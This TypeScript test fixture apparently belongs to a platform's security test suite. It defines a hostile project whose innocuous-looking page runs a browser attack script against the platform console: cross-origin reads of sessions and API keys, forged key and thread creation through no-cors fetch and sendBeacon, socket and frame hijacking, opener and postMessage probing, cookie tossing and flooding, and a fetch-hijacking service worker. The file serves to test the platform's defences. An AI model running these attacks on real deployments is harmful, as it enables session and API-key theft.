import { quickProject } from "./quick-project.ts";

/** What a page of somebody's deployment tries, by name; each reports what it got, or how it was stopped. */
export type Report = Record<string, { got?: unknown; stopped?: string }>;

/**
 * Runs in the browser: `attack(platform, threadId)` gives a Report. The same code runs in the page of the deployment and,
 * to see that it would work, in the console's own.
 */
export const attackSource = `
async function attack(platform, threadId) {
  const report = {};
  const attempt = async (name, act) => {
    const late = new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 20000));
    try { report[name] = { got: (await Promise.race([act(), late])) ?? null }; }
    catch (error) { report[name] = { stopped: String(error).slice(0, 200) }; }
  };
  const read = async (path, init) => {
    const response = await fetch(platform + path, { credentials: "include", ...init });
    return { status: response.status, type: response.type, text: (await response.text()).slice(0, 400) };
  };
  const json = { "content-type": "application/json" };
  const text = { "content-type": "text/plain" };
  const own = { "x-treadle-console": "1" };
  await attempt("read the console", () => read("/"));
  await attempt("read who is signed in", () => read("/v2/auth/sessions/current", { headers: own }));
  await attempt("read keys", () => read("/v2/api-keys", { headers: own }));
  await attempt("make a key", () =>
    read("/v2/api-keys", { method: "POST", headers: { ...json, ...own }, body: '{"name":"stolen by json"}' }));
  await attempt("make a key unseen", async () => {
    const form = { method: "POST", mode: "no-cors", credentials: "include", headers: text };
    await fetch(platform + "/v2/api-keys", { ...form, body: '{"name":"stolen by text"}' });
    throw new Error("sent, and nothing read");
  });
  await attempt("read threads without a key", () =>
    read("/threads/search", { method: "POST", headers: json, body: "{}", credentials: "omit" }));
  await attempt("make a thread", () =>
    read("/threads", { method: "POST", headers: json, body: '{"metadata":{"stolen":"json"}}' }));
  for (const [kind, more] of [["text", { headers: text }], ["bare", {}], ["omit", { headers: text, credentials: "omit" }]]) {
    await attempt("make a thread unseen by " + kind, async () => {
      const body = new Blob([JSON.stringify({ metadata: { stolen: kind } })]);
      await fetch(platform + "/threads", { method: "POST", mode: "no-cors", credentials: "include", body, ...more });
      throw new Error("sent, and nothing read");
    });
  }
  await attempt("make a thread by beacon", async () => {
    navigator.sendBeacon(platform + "/threads", JSON.stringify({ metadata: { stolen: "beacon" } }));
    throw new Error("sent, and nothing read");
  });
  await attempt("open a socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(platform.replace("http", "ws") + "/threads/" + threadId + "/stream/events");
    socket.onopen = () => { resolve("open"); socket.close(); };
    socket.onerror = () => reject(new Error("refused"));
  }));
  await attempt("follow the feed of changes", async () => {
    const response = await fetch(platform + "/v2/events", { credentials: "include", headers: own });
    return { status: response.status };
  });
  await attempt("frame the console", () => new Promise((resolve, reject) => {
    const frame = document.createElement("iframe");
    frame.src = platform + "/settings";
    frame.onload = () => {
      try { resolve(frame.contentWindow.document.documentElement.outerHTML.slice(0, 200)); }
      catch (error) { reject(error); }
    };
    document.body.append(frame);
  }));
  await attempt("open the console and look in", async () => {
    const opened = window.open(platform + "/settings");
    if (!opened) throw new Error("no window");
    const answer = new Promise((resolve) => addEventListener("message", ({ data }) => resolve({ answered: data })));
    try {
      for (let look = 0; look < 150; look++) {
        // A new window is empty and the opener's own until the other page is there.
        try { if (opened.document.title.includes("Treadle")) return "the console"; }
        catch { break; }
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      opened.postMessage({ type: "session", get: "key" }, "*");
      const silence = new Promise((_, reject) => setTimeout(() => reject(new Error("no way in, and no answer")), 1000));
      return await Promise.race([answer, silence]);
    } finally { opened.close(); }
  });
  await attempt("look at the opener", async () => {
    if (window.opener === null) throw new Error("there is none");
    return window.opener.document.title;
  });
  await attempt("read cookies", async () => {
    if (document.cookie === "") throw new Error("there are none");
    return document.cookie;
  });
  for (const name of ["localStorage", "sessionStorage"]) {
    await attempt("read " + name, async () => {
      const canary = window[name].getItem("canary");
      if (canary === null) throw new Error("nothing of the console's");
      return canary;
    });
  }
  await attempt("read databases", () => new Promise((resolve, reject) => {
    const opening = indexedDB.open("canary");
    opening.onsuccess = () => {
      const has = opening.result.objectStoreNames.contains("kept");
      opening.result.close();
      has ? resolve("kept") : reject(new Error("nothing of the console's"));
    };
    opening.onerror = () => reject(opening.error);
  }));
  await attempt("set cookies", async () => {
    for (const name of ["treadle_session", "__Host-treadle_session", "fixed"]) {
      document.cookie = name + "=attacker; path=/";
      document.cookie = name + "=attacker; path=/; domain=localhost";
      document.cookie = name + "=attacker; path=/; domain=.localhost";
    }
    for (let index = 0; index < 200; index++) document.cookie = "many" + index + "=" + "x".repeat(1000) + "; path=/; domain=localhost";
    throw new Error("set, and nothing read");
  });
  return report;
}
`;

const page = `<!doctype html><title>A friendly page</title><body><h1>A friendly page</h1><script>${attackSource}
const query = new URLSearchParams(location.search);
attack(query.get("platform"), query.get("thread")).then((report) => { window.report = report; });
</script>`;

/** A project whose pages attack the people who open them. */
export function hostileProject() {
  return quickProject("hostile", {
    "app.js": `import { Hono } from "hono";
export const app = new Hono();
app.get("/page", (c) => c.html(${JSON.stringify(page)}));
app.get("/own", (c) => c.text("mine"));
app.get("/sw.js", (c) => c.body("self.addEventListener('fetch', (event) => event.respondWith(new Response('taken over')))", 200,
  { "content-type": "text/javascript", "service-worker-allowed": "/" }));
app.get("/cookies", (c) => {
  for (const name of ["treadle_session", "__Host-treadle_session", "fixed"]) {
    for (const rest of ["Path=/", "Path=/; Domain=localhost", "Path=/; Domain=.localhost", "Domain=127.0.0.1; Path=/"])
      c.header("set-cookie", name + "=attacker; " + rest, { append: true });
  }
  return c.html("<title>Cookies</title>set");
});
app.get("/scheme", (c) => c.text(c.req.header("x-forwarded-proto") ?? ""));
`,
  });
}
